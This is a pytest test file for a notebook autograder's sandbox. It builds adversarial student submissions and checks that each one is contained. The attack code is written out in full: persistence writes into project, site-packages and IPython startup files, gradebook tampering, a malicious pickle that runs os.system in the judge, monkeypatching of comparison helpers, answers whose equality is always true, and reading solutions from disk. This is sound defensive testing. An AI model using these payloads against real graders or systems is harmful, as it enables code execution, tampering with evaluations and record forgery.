"""Submissions that loop, crash, hog memory or disk, exit, tamper with the tests, read the
answers from disk or from the kernel's memory, lie about their answers, forge the records
the judge reads, try to outlive their grading or reach other students, or phone home.

Each is built here from the reference answers of the first lab with one attack added; each
must score exactly what it deserves (0 for the exercises it attacked, full marks elsewhere),
the batch must complete (graded two at a time, attackers first), and the honest submissions
graded again in a batch of their own afterwards must get the same rows of the CSV files: an
attacker changes nobody's marks, in its own batch or the next. After the batches no process
they started is alive and nothing outside the output folders changed: not the project, not
the virtual environment, not HOME.
"""

import copy
import csv
import http.server
import os
import shutil
import socketserver
import sys
import threading
from pathlib import Path

import pytest
from nbformat.v4 import new_output

from autograder import notebooks
from autograder.course import REPO
from autograder.examples import answered, reference_answers
from autograder.grade import Limits, grade
from autograder.sandbox import FIRST_UID
from tests.labs_under_test import LABS

pytestmark = pytest.mark.slow
LAB = LABS[0]
WRONG_INIT_STD = LAB.variants().MISTAKES[0]
LIMITS = Limits(cell_seconds=8, notebook_seconds=240, memory_mb=2500)
MARKER = "31337"  # the detached processes' argument, to find any that outlived grading


def _points(cell_ids: set[str]) -> float:
    nb = notebooks.read(LAB.notebook)
    return sum(notebooks.points(c) for c in notebooks.grade_cells(nb) if notebooks.grade_id(c) in cell_ids)


def _mistake(name):
    return next(mistake for mistake in LAB.variants().MISTAKES if mistake.name == name)


def _cell(nb, grade_id):
    return next(cell for cell in nb.cells if notebooks.grade_id(cell) == grade_id)


@pytest.fixture(scope="module")
def answer_server():
    """A web server on this machine that hands out the answer to Q1."""
    answer = {}
    exec(reference_answers(LAB)["q1_same_value"], answer)

    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.end_headers()
            self.wfile.write(answer["Q1"].encode())

        def log_message(self, *args):
            pass

    with socketserver.TCPServer(("127.0.0.1", 0), Answer) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1]
        server.shutdown()


# Each attack is the source of one answer cell; it ends by giving the cell's answer, so that
# it loses points only where the attack itself is wrong.
READ_ANSWERS_FROM_DISK = """\
import json, pathlib, labs
_found = {}
_project = pathlib.Path(labs.__file__).resolve().parent.parent
_candidates = [_project / ("sol" + "utions") / "lab01_initialization.py"]
for _up in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
    _candidates += list(_up.glob("source/*/*.ipynb")) + list(_up.glob("*/source/*/*.ipynb"))
for _path in _candidates:
    try:
        _text = _path.read_text()
        if _path.suffix == ".ipynb":
            _text = "\\n".join("".join(c["source"]) for c in json.loads(_text)["cells"]
                              if "BEGIN SOLUTION" in "".join(c["source"]))
        exec(_text, _found)
    except Exception:
        pass
orthogonal_init_ = _found.get("orthogonal_init_")
"""

PERSIST = f"""\
import pathlib, site, sqlite3, subprocess, sys, labs
_root = pathlib.Path(labs.__file__).resolve().parent.parent
_evil = "raise SystemExit('persisted')\\n"
_targets = [_root / "autograder" / "checks" / "lab01_initialization.py",
            _root / "solutions" / "lab01_initialization.py", _root / "labs" / "device.py",
            pathlib.Path(site.getsitepackages()[0]) / "zz_persist.pth",
            pathlib.Path(sys.prefix) / "bin" / "jupyter",
            pathlib.Path.home() / ".ipython" / "profile_default" / "startup" / "00-persist.py",
            pathlib.Path("/root/.ipython/profile_default/startup/00-persist.py")]
for _target in _targets:
    try:
        _target.parent.mkdir(parents=True, exist_ok=True)
        _target.write_text("import os; " + _evil if _target.suffix == ".pth" else _evil)
    except OSError:
        pass
for _up in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path("/tmp")]:
    for _db in [*_up.glob("gradebook*.db"), *_up.glob("*/gradebook*.db"), *_up.glob("*/*/gradebook*.db")]:
        try:
            with sqlite3.connect(_db) as _con:
                _con.execute("UPDATE grade SET manual_score = 0, extra_credit = 50")
        except Exception:
            pass
_overwrite = ("import pathlib, time\\nwhile True:\\n"
              "    for p in pathlib.Path('/').glob('**/.work/**/*.ipynb'):\\n"
              "        try: p.write_text('{{}}')\\n        except OSError: pass\\n    time.sleep(0.2)")
for _ in range(20):
    subprocess.Popen(["sleep", "{MARKER}"], start_new_session=True)
subprocess.Popen([sys.executable, "-c", _overwrite, "{MARKER}"], start_new_session=True)
"""

DISK_HOG = """\
import pathlib, tempfile
_chunk = b"x" * 2**24
for _folder, _megabytes in ((pathlib.Path.cwd(), 2048), (pathlib.Path(tempfile.gettempdir()), 1024)):
    try:
        with open(_folder / "hog.bin", "wb") as _handle:
            for _ in range(_megabytes // 16):
                _handle.write(_chunk)
    except OSError:
        pass
    for _index in range(64):
        try:
            (_folder / f"hog{_index}.bin").write_bytes(_chunk)
        except OSError:
            break
"""

NOISY_BUT_RIGHT = """\
import sys, warnings
import torch
from tqdm.auto import tqdm
print("about to run init_std", file=sys.stderr)
warnings.warn("a warning from the student's own code")
torch.tensor(torch.ones(2))  # PyTorch's UserWarning: copy-constructing a tensor
for _ in tqdm(range(5), desc="warming up"):
    pass
"""

DISPLAYHOOK = """
_wrong_init_std = init_std


def init_std(*args, **kwargs):
    import sys
    sys.displayhook("ok")
    sys.displayhook(2.0)
    return _wrong_init_std(*args, **kwargs)
"""


# Find an answer in the kernel's memory: a module or any dict other than the notebook's that
# holds Q1 (the judge's reference never enters the kernel, so none should).
MODULE_LOOKUP = """\
import gc, sys
_mine = globals()
_found = [m.Q1 for m in list(sys.modules.values()) if isinstance(getattr(m, "Q1", None), str)]
_found += [d["Q1"] for d in gc.get_objects() if isinstance(d, dict) and d is not _mine
           and isinstance(d.get("Q1"), str) and d["Q1"] in "abcd"]
Q1 = _found[0] if _found else "a"
"""

# Use the grade cell's probe as an oracle: keep the first choice it does not complain about.
ORACLE = """\
_probes = __import__("autograder.probes.lab01_initialization", fromlist=["_"])
Q2 = "a"
for _choice in "abcd":
    try:
        _probes.test_q2_zero_bias(_choice)
    except Exception:
        continue
    Q2 = _choice
    break
"""

# Rebind the comparison helpers from inside the graded function, after any restore.
REBIND_INSIDE = """
_wrong_init_std = init_std


def init_std(*args, **kwargs):
    import math
    import torch
    math.isclose = lambda *a, **k: True
    torch.allclose = lambda *a, **k: True
    return _wrong_init_std(*args, **kwargs)
"""

# Answers whose == is always true (and whose methods return themselves).
LYING_CHOICE = """\
class _Yes(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
    def strip(self, *args):
        return self
    def lower(self):
        return self
    def __contains__(self, item):
        return True


Q1 = _Yes("a")
"""

LYING_NUMBER = """\
class _Near(float):
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
    def __float__(self):
        return 0.1


Q3 = _Near(7.0)
"""

PWNED = Path(f"/tmp/dnnlabs-pwned-{MARKER}")

# Write frames onto the record channel: a pickle that would run a command in the judge, a
# record of the wrong shape, and a length that swallows every record after it.
FORGED_RECORDS = f"""\
import io, os, struct, torch
class _Evil:
    def __reduce__(self):
        return (os.system, ("touch {PWNED}",))
def _names(fd):
    try:
        return os.readlink(f"/proc/self/fd/{{fd}}")
    except OSError:
        return ""
_fds = [int(fd) for fd in os.listdir("/proc/self/fd") if "dnnlabs-records" in _names(fd)]
def _frame(obj):
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return struct.pack("<Q", buffer.tell()) + buffer.getvalue()
for _fd in _fds:
    os.write(_fd, _frame({{"grade_id": "test_q2_zero_bias", "observations": {{"answer": _Evil()}},
                          "stopped": None}}))
    os.write(_fd, _frame({{"grade_id": "test_q5_selu_init", "observations": [1, 2], "stopped": 3}}))
    os.write(_fd, struct.pack("<Q", 2**40) + b"x" * 64)
"""


def build_attacks(released_dir: Path, dest: Path, port: int) -> dict[str, set[str]]:
    """Write one submission per attack under `dest`; return the grade cells each must fail.

    Students whose names start with `a_` attack the machine and the batch; they sort first,
    so they are graded before the honest ones.
    """
    released = notebooks.read(released_dir / "course" / "release" / LAB.lab_id / LAB.notebook.name)
    answers = reference_answers(LAB)
    # The input transformer blanks every later cell, so it goes in the last answer cell.
    cells = [cell for cell in released.cells if notebooks.grade_id(cell)]
    last = max(index for index, cell in enumerate(cells) if notebooks.is_solution(cell))
    last_answer, last_test = notebooks.grade_id(cells[last]), notebooks.grade_id(cells[last + 1])
    attacks: dict[str, tuple[dict[str, str], set[str]]] = {
        "honest": ({}, set()),
        "loop": ({"orthogonal_init": answers["orthogonal_init"].replace(
            "    rows, cols = layer.weight.shape", "    while True:\n        pass")},
                 {"test_orthogonal_init"}),
        "stubborn_loop": ({"q5_selu_init": "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n"
                                            "    except KeyboardInterrupt:\n        pass"},
                          {"test_q5_selu_init"}),
        "kill": ({"q4_default_ratio": "import os\nos.kill(os.getpid(), 9)\n" + answers["q4_default_ratio"]},
                 {"test_q4_default_ratio"}),
        "memory": ({"q3_he_std": "def hog():\n    chunks = []\n    while True:\n"
                                 "        chunks.append(bytes(256 * 2**20))\n\n\nhog()\nQ3 = 0.1"},
                   {"test_q3_he_std"}),
        "exit": ({"q2_zero_bias": 'import sys\nsys.exit(0)\nQ2 = "a"'}, {"test_q2_zero_bias"}),
        "allclose": ({"orthogonal_init": _mistake("orthogonal init from an unnormalized Gaussian").source
                      + "\ntorch.allclose = lambda *args, **kwargs: True"}, {"test_orthogonal_init"}),
        "helpers": ({"init_std": WRONG_INIT_STD.source + (
            "\nimport autograder.checks.core as core\n"
            "import autograder.checks.lab01_initialization as checks\n"
            "core.expect = checks.expect = core.expect_close = checks.expect_close = "
            "lambda *args, **kwargs: None\n")}, {"test_init_std"}),
        "fake_module": ({"init_std": WRONG_INIT_STD.source + (
            "\nimport types\nimport autograder.checks\n"
            "real = autograder.checks.lab01_initialization\n"
            "autograder.checks.lab01_initialization = types.SimpleNamespace(\n"
            "    **{name: getattr(real, name) for name in dir(real)})\n"
            "autograder.checks.lab01_initialization.test_init_std = lambda f: None\n")},
                        {"test_init_std"}),
        "transformer": ({last_answer: answers[last_answer]
                         + "\nget_ipython().input_transformers_cleanup.append(lambda lines: [])"},
                        {last_test}),
        "network": ({"q1_same_value": "import urllib.request\ntry:\n    Q1 = urllib.request.urlopen("
                                      f"'http://127.0.0.1:{port}/', timeout=3).read().decode()\n"
                                      "except Exception:\n    Q1 = 'no network'"},
                    {"test_q1_same_value"}),
        "edited_test": ({"init_std": WRONG_INIT_STD.source}, {"test_init_std"}),
        "deleted_test": ({"uniform_bound": "def uniform_bound(std):\n    return std"},
                         {"test_uniform_bound"}),
        "big_output": ({}, set()),
        "a_disk_reader": ({"orthogonal_init": READ_ANSWERS_FROM_DISK}, {"test_orthogonal_init"}),
        "a_persist": ({"q1_same_value": PERSIST + answers["q1_same_value"]}, set()),
        "a_disk_hog": ({"q2_zero_bias": DISK_HOG + answers["q2_zero_bias"]}, set()),
        "noisy": ({"init_std": NOISY_BUT_RIGHT + answers["init_std"]}, set()),
        "displayhook": ({"init_std": WRONG_INIT_STD.source + DISPLAYHOOK}, {"test_init_std"}),
        "duplicated": ({}, set()),
        "module_lookup": ({"q1_same_value": MODULE_LOOKUP}, {"test_q1_same_value"}),
        "oracle": ({"q2_zero_bias": ORACLE}, {"test_q2_zero_bias"}),
        "rebind_inside": ({"init_std": WRONG_INIT_STD.source + REBIND_INSIDE}, {"test_init_std"}),
        "lying_answers": ({"q1_same_value": LYING_CHOICE, "q3_he_std": LYING_NUMBER},
                          {"test_q1_same_value", "test_q3_he_std"}),
        "forged_records": ({last_answer: answers[last_answer] + "\n" + FORGED_RECORDS}, {last_test}),
    }
    for student, (changes, _) in attacks.items():
        submission = answered(released, {**answers, **changes})
        if student == "edited_test":
            _cell(submission, "test_init_std").source = 'print("all good")'
            _cell(submission, "test_init_std").metadata.nbgrader["locked"] = False
        if student == "deleted_test":
            submission.cells.remove(_cell(submission, "test_uniform_bound"))
        if student == "big_output":
            huge = new_output("stream", name="stdout", text="x" * 50_000_000)
            _cell(submission, "init_std").outputs = [huge]
        if student == "duplicated":
            _duplicate(submission, "init_std")
            _duplicate(submission, "test_init_std")
        notebooks.write(submission, dest / student / LAB.lab_id / LAB.notebook.name)
    (dest / "malformed" / LAB.lab_id).mkdir(parents=True)
    (dest / "malformed" / LAB.lab_id / LAB.notebook.name).write_text('{"cells": [{"cell_type": ')
    honest = answered(released, answers)
    notebooks.write(honest, dest / "gradebook.base.db" / LAB.lab_id / LAB.notebook.name)
    return {student: fails for student, (_, fails) in attacks.items()}


def _duplicate(nb, grade_id):
    """Copy a cell as JupyterLab's Duplicate does: same source and metadata, a new cell id."""
    original = _cell(nb, grade_id)
    duplicate = copy.deepcopy(original)
    duplicate["id"] = f"{original['id'][:8]}-copy"
    nb.cells.insert(nb.cells.index(original) + 1, duplicate)



def _fingerprint() -> dict[str, tuple[int, int]]:
    """Size and modification time of every file a submission could use to persist: the
    project's code, the virtual environment, and HOME's Python, Jupyter and plotting settings
    (not the rest of HOME, which a browser or an editor may write to meanwhile)."""
    home = Path.home()
    roots = [REPO / "autograder", REPO / "solutions", REPO / "labs", Path(sys.prefix),
             home / ".ipython", home / ".local" / "lib", home / ".local" / "bin", home / ".jupyter",
             home / ".config" / "matplotlib"]
    seen = {}
    for root in roots:
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d != "__pycache__"]
            for name in files:
                path = Path(folder) / name
                try:
                    info = path.stat()
                except OSError:
                    continue
                seen[str(path)] = (info.st_size, info.st_mtime_ns)
    return seen


def _leftover_processes() -> list[str]:
    """Processes started by a graded submission: run as a grading uid, or carrying MARKER."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            uid = entry.stat().st_uid
            command = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if FIRST_UID <= uid < FIRST_UID + 64 or MARKER in command.split():
            found.append(f"{entry.name} uid={uid}: {command.strip()}")
    return found


NEXT_BATCH = ("honest", "noisy")


@pytest.fixture(scope="module")
def graded_twice(released, answer_server, tmp_path_factory):
    root = tmp_path_factory.mktemp("adversarial")
    expected = build_attacks(released.out_dir, root / "submissions", answer_server)
    before = _fingerprint()
    runs = [(grade(root / "submissions", root / "course0", released.out_dir, jobs=2, limits=LIMITS),
             root / "course0")]
    for student in NEXT_BATCH:
        shutil.copytree(root / "submissions" / student, root / "next" / student)
    runs.append((grade(root / "next", root / "course1", released.out_dir, limits=LIMITS),
                 root / "course1"))
    changed = sorted(path for path, mark in _fingerprint().items() if before.get(path) != mark)
    changed += sorted(set(before) - set(_fingerprint()))
    return expected, runs, changed


def test_each_attack_loses_exactly_the_exercises_it_attacked(graded_twice):
    expected, runs, _ = graded_twice
    for report, _ in runs:
        outcomes = {o.student_id: o for o in report.outcomes}
        for student, fails in expected.items():
            if student not in outcomes:
                continue
            outcome = outcomes[student]
            lost = {cell for cell, result in outcome.cells.items() if result["score"] != result["max_score"]}
            assert lost == fails, f"{student}: lost {sorted(lost)}, not {sorted(fails)} ({outcome.status})"
            assert outcome.score == outcome.max_score - _points(fails)


def test_the_report_says_what_happened(graded_twice):
    _, runs, _ = graded_twice
    status = {o.student_id: str(o.status) for o in runs[0][0].outcomes}
    assert "stopped after 8 s" in status["loop"]
    assert "ignored the interrupt; restarted" in status["stubborn_loop"]
    assert "the kernel died; restarted" in status["kill"]
    assert "ran out of memory" in status["memory"]
    for student in ("helpers", "fake_module"):
        assert "flagged: autograder" in status[student]
    assert "get_ipython" in status["transformer"]
    assert status["honest"] == status["noisy"] == status["duplicated"] == "graded"
    reasons = {problem.where.split("/")[0]: problem.reason for problem in runs[0][0].problems}
    assert "not valid notebook JSON" in reasons["malformed"]
    assert "a name the grader uses" in reasons["gradebook.base.db"]


def test_the_network_is_cut_off(graded_twice):
    _, runs, _ = graded_twice
    network = next(o for o in runs[0][0].outcomes if o.student_id == "network")
    assert network.cells["test_q1_same_value"]["score"] == 0


def test_the_honest_get_the_same_rows_after_the_attacks_as_alone(graded_twice):
    _, runs, _ = graded_twice
    assert {o.student_id for o in runs[1][0].outcomes} == set(NEXT_BATCH)
    for name in ("grades.csv", "grades_by_exercise.csv", "report.csv"):
        rows = [_honest_rows(course / name) for _, course in runs]
        assert rows[0] == rows[1] and {row[0] for row in rows[0]} == set(NEXT_BATCH), name


def _honest_rows(path: Path) -> list[list[str]]:
    """The CSV's rows of the next batch's students, without report.csv's seconds column."""
    with open(path, newline="") as handle:
        rows = list(csv.reader(handle))
    timed = rows[0][:6] == ["student_id", "lab_id", "score", "max_score", "seconds", "status"]
    return [row[:4] + row[5:] if timed else row for row in rows[1:] if row and row[0] in NEXT_BATCH]


def test_no_grade_is_above_its_maximum_and_the_csvs_agree(graded_twice):
    _, runs, _ = graded_twice
    for _, course in runs:
        with open(course / "grades.csv") as handle:
            grades = {(r["student_id"], r["lab_id"]): (float(r["score"]), float(r["max_score"]))
                      for r in csv.DictReader(handle)}
        with open(course / "report.csv") as handle:
            reported = {(r["student_id"], r["lab_id"]): (float(r["score"]), float(r["max_score"]))
                        for r in csv.DictReader(handle) if r["student_id"]}
        assert grades == reported
        assert all(score <= top for score, top in grades.values())


def test_nothing_a_submission_started_outlives_the_batch(graded_twice):
    assert _leftover_processes() == []


def test_nothing_outside_the_output_folder_changed(graded_twice):
    _, _, changed = graded_twice
    assert changed == []


def test_a_forged_record_runs_nothing_in_the_judge(graded_twice):
    assert not PWNED.exists()
